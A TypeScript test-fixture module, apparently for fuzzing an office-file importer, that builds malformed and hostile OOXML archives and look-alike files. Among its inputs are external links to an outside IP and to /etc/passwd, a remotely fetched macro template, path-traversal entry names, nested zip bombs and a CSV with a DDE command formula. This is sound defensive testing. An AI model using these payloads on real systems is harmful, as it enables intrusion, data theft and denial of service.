import type { Seeded } from '../../simulation/seeded.js';
import { type ZipPart, zipOf } from './zip.js';

type Parts = readonly ZipPart[];
const part = (name: string, bytes: Buffer | string, more: Partial<ZipPart> = {}): ZipPart => ({
  name,
  bytes: Buffer.from(bytes),
  ...more,
});
const withPart = (parts: Parts, ...more: Parts): Parts => [
  ...parts.filter(({ name }) => !more.some((other) => other.name === name)),
  ...more,
];
const editing = (parts: Parts, form: RegExp, edit: (xml: string) => string): Parts =>
  parts.map((found) =>
    form.test(found.name) ? { ...found, bytes: Buffer.from(edit(found.bytes.toString())) } : found,
  );
const inRels = (parts: Parts, relation: string): Parts =>
  editing(parts, /_rels\/(workbook|document)\.xml\.rels$/, (xml) =>
    xml.replace('</Relationships>', `${relation}</Relationships>`),
  );
const relation = (type: string, target: string, mode = ''): string =>
  `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`;
const EXTERNAL = ' TargetMode="External"';

/** One thing done to the parts of an office file. */
export const partChanges: Readonly<Record<string, (parts: Parts, random: Seeded) => Parts>> = {
  'a part missing': (parts, random) => parts.filter((_, at) => at !== random.below(parts.length)),
  'a part twice': (parts, random) => [...parts, random.pick(parts)],
  'a part of another name': (parts, random) =>
    parts.map((found, at) => (at === random.below(parts.length) ? { ...found, name: `${found.name}x` } : found)),
  'two parts exchanged': (parts) =>
    parts.map((found, at) => ({ ...found, bytes: parts[(at + 1) % parts.length]?.bytes ?? found.bytes })),
  'a macro': (parts) => withPart(parts, part('xl/vbaProject.bin', 'VBA')),
  'a macro elsewhere': (parts) => withPart(parts, part('word/vbaData.xml', '<a/>')),
  'the type of a macro': (parts) =>
    editing(parts, /Content_Types/, (xml) => xml.replace(/(sheet|document)\.main\+xml/, '$1.macroEnabled.main+xml')),
  'a link outside': (parts, random) =>
    inRels(
      parts,
      relation(
        random.pick(['image', 'hyperlink', 'externalLinkPath']),
        random.pick(['http://198.51.100.7/x', 'file:///etc/passwd', '\\\\198.51.100.7\\x']),
        EXTERNAL,
      ),
    ),
  'an external book': (parts) =>
    withPart(
      inRels(parts, relation('externalLink', 'externalLinks/externalLink1.xml')),
      part('xl/externalLinks/externalLink1.xml', '<externalLink/>'),
    ),
  'an object': (parts, random) =>
    withPart(
      parts,
      part(
        random.pick(['xl/embeddings/oleObject1.bin', 'word/activeX/activeX1.bin', 'xl/ctrlProps/ctrlProp1.xml']),
        'x',
      ),
    ),
  'a template from outside': (parts) =>
    inRels(parts, relation('attachedTemplate', 'http://198.51.100.7/a.dotm', EXTERNAL)),
  'an archive in it': (parts) => withPart(parts, part('xl/media/inner.xlsx', zipOf(parts))),
  'archives in archives': (parts) => {
    let inner = zipOf(parts);
    for (let level = 0; level < 20; level += 1) inner = zipOf([part('xl/inner.zip', inner)]);
    return withPart(parts, part('xl/media/inner.zip', inner));
  },
  'a path out of it': (parts, random) =>
    withPart(
      parts,
      part(
        random.pick(['../../etc/cron.d/x', '/etc/passwd', 'C:\\x', 'xl\\workbook.xml', 'xl/../../x', 'a\u0000b']),
        'x',
      ),
    ),
  'a name without end': (parts) => withPart(parts, part('x/'.repeat(30_000), 'x')),
  'thousands of parts': (parts, random) => [
    ...parts,
    ...Array.from({ length: random.pick([500, 3_000]) }, (_, at) => part(`xl/media/${at}`, 'x')),
  ],
  'a manifest nobody wrote': (parts) =>
    withPart(parts, part('customXml/item9.xml', '<manifest xmlns="urn:taizhang:evidence-manifest:1"/>')),
  'a part that lies about its length': (parts, random) =>
    parts.map((found) =>
      random.chance(0.3)
        ? { ...found, declares: random.pick([0, 1, found.bytes.length + 1, 0x7fffffff, 0xffffffff]) }
        : found,
    ),
  'a part packed otherwise': (parts, random) =>
    parts.map((found) => (random.chance(0.3) ? { ...found, method: random.pick([1, 9, 12, 14, 93, 99]) } : found)),
  'a part said to be encrypted': (parts, random) =>
    parts.map((found) => (random.chance(0.3) ? { ...found, flags: 0x801 } : found)),
  'parts only stored': (parts) => parts.map((found) => ({ ...found, stored: true })),
};

const flipped = (bytes: Buffer, random: Seeded, from: number, to: number, times: number): Buffer => {
  const copy = Buffer.from(bytes);
  for (let time = 0; time < times; time += 1) copy[from + random.below(Math.max(1, to - from))] = random.below(256);
  return copy;
};
const directoryOf = (bytes: Buffer): number => bytes.readUInt32LE(bytes.length - 6);

/** One thing done to the bytes of an archive. */
export const byteChanges: Readonly<Record<string, (bytes: Buffer, random: Seeded) => Buffer>> = {
  'cut off': (bytes, random) => bytes.subarray(0, random.below(bytes.length)),
  'bytes anywhere': (bytes, random) => flipped(bytes, random, 0, bytes.length, 1 + random.below(30)),
  'bytes of the directory': (bytes, random) =>
    flipped(bytes, random, directoryOf(bytes), bytes.length - 22, 1 + random.below(4)),
  'bytes of the end': (bytes, random) => flipped(bytes, random, bytes.length - 22, bytes.length, 1 + random.below(3)),
  'something before it': (bytes) => Buffer.concat([Buffer.alloc(1_000, 'x'), bytes]),
  'something behind it': (bytes, random) => Buffer.concat([bytes, Buffer.alloc(random.pick([1, 70_000]), 'x')]),
  'two ends': (bytes) => Buffer.concat([bytes, bytes.subarray(bytes.length - 22)]),
  'two archives': (bytes) => Buffer.concat([bytes, bytes]),
  'marked as zip64': (bytes) => {
    const copy = Buffer.from(bytes);
    copy.writeUInt32LE(0xffffffff, bytes.length - 6);
    copy.writeUInt16LE(0xffff, bytes.length - 12);
    return copy;
  },
};

/** What is no office file at all, whatever it is called. */
export const otherFiles: Readonly<Record<string, (random: Seeded) => Buffer>> = {
  'an .xls renamed': () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]),
  'a PDF': () => Buffer.from('%PDF-1.7\n%âãÏÓ\n'),
  'a page': () => Buffer.from('<html><table><tr><td>=1+1</td></tr></table></html>'),
  'a CSV': () => Buffer.from('三级指标,实际完成值\n=cmd|1,2\n'),
  'a gzip': () => Buffer.from('1f8b0800000000000003', 'hex'),
  'an empty archive': () => zipOf([]),
  'one byte': () => Buffer.from('P'),
  noise: (random) => Buffer.from(Array.from({ length: 3_000 }, () => random.below(256))),
};
